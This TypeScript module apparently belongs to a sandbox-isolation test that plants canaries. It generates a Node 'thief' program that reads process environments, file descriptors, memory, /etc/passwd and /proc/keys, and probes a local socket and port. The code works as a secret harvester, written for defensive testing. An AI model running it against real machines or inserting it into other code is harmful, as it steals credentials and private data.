import type { Canaries } from './canaries.ts';

/** What the attacker was told before: every path, the socket, the port. */
export type Map = {
  readonly paths: readonly string[];
  readonly socket: string;
  readonly port: number;
  /** The end of the first argument of the action's process. */
  readonly action: string;
};

export function mapOf(canaries: Canaries, paths: readonly string[], action: string): Map {
  const { socket, port, descriptorFile } = canaries;
  return { paths: [...paths, descriptorFile], socket, port, action };
}

/**
 * A Node program that takes everything it can name: environments, arguments, descriptors, files and memory of each
 * process, given paths by every root that it sees, the socket and the port. `steal` resolves to one text. Where it
 * sees the whole machine, it keeps to the processes of the action that it runs for.
 */
export function thiefSource(map: Map): string {
  return `const map = ${JSON.stringify(map)};\n${SOURCE}`;
}

const SOURCE = String.raw`
const fs = require('node:fs');
const net = require('node:net');
const path = require('node:path');
const attempt = (read, or) => { try { return read(); } catch { return or; } };
const text = (file) => attempt(() => fs.readFileSync(file, 'latin1'), '');
const parentOf = (pid) => Number(text('/proc/' + pid + '/stat').replace(/.*\) \S /s, '').split(' ')[0]);
const all = () => attempt(() => fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name)).map(Number), []);

function family() {
  let top = process.pid;
  const isAction = (pid) => String(text('/proc/' + pid + '/cmdline').split('\0')[1]).endsWith(map.action);
  while (top > 1 && !isAction(top)) top = parentOf(top);
  if (top <= 1) return all();
  const below = (pid) => all().filter((child) => parentOf(child) === pid).flatMap((child) => [child, ...below(child)]);
  return [top, ...below(top)];
}

/** Names that look like a canary in the readable and writable memory of a process. */
function memory(pid) {
  const fd = attempt(() => fs.openSync('/proc/' + pid + '/mem', 'r'), null);
  if (fd === null) return '';
  const found = new Set();
  let left = 300 * 1024 * 1024;
  const piece = Buffer.alloc(4 * 1024 * 1024);
  for (const line of text('/proc/' + pid + '/maps').split('\n')) {
    const [, from, to] = /^([0-9a-f]+)-([0-9a-f]+) rw.. /.exec(line) || [];
    if (!from) continue;
    for (let at = parseInt(from, 16); at < parseInt(to, 16) && left > 0; at += piece.length) {
      const size = Math.min(piece.length, parseInt(to, 16) - at);
      const count = attempt(() => fs.readSync(fd, piece, 0, size, at), 0);
      left -= size;
      for (const word of piece.subarray(0, count).toString('latin1').match(/canary[0-9a-f]{40}/g) || []) found.add(word);
    }
  }
  fs.closeSync(fd);
  return [...found].join(' ');
}

function ask(options) {
  return new Promise((resolve) => {
    let answer = '';
    const socket = net.connect(options, () => socket.write('GET / HTTP/1.0\r\n\r\n'));
    socket.setTimeout(2000, () => socket.destroy());
    socket.on('data', (data) => (answer += data)).on('error', () => undefined).on('close', () => resolve(answer));
  });
}

async function steal() {
  const loot = [JSON.stringify(process.env)];
  for (const pid of family()) {
    const home = '/proc/' + pid + '/';
    loot.push(text(home + 'environ'), text(home + 'cmdline'), text(home + 'mountinfo'));
    for (const fd of attempt(() => fs.readdirSync(home + 'fd'), [])) {
      loot.push(attempt(() => fs.readlinkSync(home + 'fd/' + fd), ''));
      loot.push(attempt(() => (fs.statSync(home + 'fd/' + fd).isFile() ? text(home + 'fd/' + fd).slice(0, 2000) : ''), ''));
    }
    if (pid !== process.pid) loot.push(memory(pid));
    for (const file of map.paths) loot.push(text(home + 'root' + file), text(home + 'cwd/' + path.basename(file)));
  }
  for (const file of map.paths) {
    loot.push(text(file), attempt(() => fs.readdirSync(path.dirname(file)).join(), ''));
  }
  for (const file of ['/proc/net/unix', '/proc/net/tcp', '/proc/mounts', '/proc/keys', '/etc/passwd']) loot.push(text(file));
  loot.push(await ask({ path: map.socket }), await ask({ host: '127.0.0.1', port: map.port }));
  return loot.join('\n');
}
`;
